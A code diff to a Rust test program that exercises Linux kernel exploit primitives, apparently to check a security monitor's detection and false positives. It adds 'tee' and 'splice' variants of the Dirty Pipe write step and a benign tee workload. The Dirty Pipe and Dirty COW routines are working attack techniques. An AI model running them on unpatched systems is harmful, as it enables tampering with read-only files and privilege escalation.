@@ -4,7 +4,7 @@
 //! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
 //!
 //! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE |
-//!        dirtypipe-via writev|fork|reopen FILE | procmem | procmem-dup-pwritev |
+//!        dirtypipe-via writev|fork|reopen|tee|splice FILE | procmem | procmem-dup-pwritev |
 //!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD>
 
@@ -91,7 +91,7 @@ fn dirtypipe(path: &str) {
 
 /// Dirty Pipe's write half another way (`how`): `writev` the pipe; `fork` and let a child
 /// that inherited it write; `reopen` the pipe through /proc/self/fd/N (a new open file of the
-/// same pipe) and write that.
+/// same pipe) and write that; `tee` or `splice` its buffers into a second pipe and write that.
 fn dirtypipe_via(how: &str, path: &str) {
     let fds = spliced_pipe(path);
     let byte = b"X";
@@ -125,7 +125,29 @@ fn dirtypipe_via(how: &str, path: &str) {
                 }
                 libc::write(fd, byte.as_ptr().cast(), 1)
             }
-            _ => fail("dirtypipe-via: writev, fork or reopen"),
+            "tee" | "splice" => {
+                let mut second = [0i32; 2];
+                if libc::pipe(second.as_mut_ptr()) != 0 {
+                    fail("pipe");
+                }
+                let copied = if how == "tee" {
+                    libc::tee(fds[0], second[1], 1, 0)
+                } else {
+                    libc::splice(
+                        fds[0],
+                        std::ptr::null_mut(),
+                        second[1],
+                        std::ptr::null_mut(),
+                        1,
+                        0,
+                    )
+                };
+                if copied != 1 {
+                    fail(how);
+                }
+                libc::write(second[1], byte.as_ptr().cast(), 1)
+            }
+            _ => fail("dirtypipe-via: writev, fork, reopen, tee or splice"),
         }
     };
     if n != 1 {
@@ -256,8 +278,8 @@ fn procmem_inherited() {
 
 /// What a busy ordinary program does with the same calls, after marks exist: a read-only file
 /// spliced into a pipe and read back out (a zero-copy copy, never written), heavy writev and
-/// pwritev into other pipes and files, a debugger-like read of /proc/self/mem, and a pwritev
-/// into its own memory (self-patching code).
+/// pwritev into other pipes and files, a tee between ordinary pipes, a debugger-like read of
+/// /proc/self/mem, and a pwritev into its own memory (self-patching code).
 fn benign_writes() {
     let file = "/tmp/benign-src";
     std::fs::write(file, b"data").unwrap_or_else(|_| fail("write source"));
@@ -293,6 +315,14 @@ fn benign_writes() {
             libc::pwritev(out.as_raw_fd(), &iov, 1, (i * 8) as libc::off_t);
             libc::writev(out.as_raw_fd(), &iov, 1);
         }
+        // tee between ordinary pipes (what a logging fan-out does), then write the copy.
+        let mut copy = [0i32; 2];
+        if libc::pipe(copy.as_mut_ptr()) != 0 {
+            fail("pipe");
+        }
+        libc::writev(pipe[1], &iov, 1);
+        libc::tee(pipe[0], copy[1], word.len(), 0);
+        libc::writev(copy[1], &iov, 1);
         libc::pread(
             mem.as_raw_fd(),
             back.as_mut_ptr().cast(),
@@ -556,7 +586,7 @@ fn main() {
         Some("setns") => setns64(&arg(2), &arg(3)),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD>"
+                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD>"
             );
             exit(2);
         }
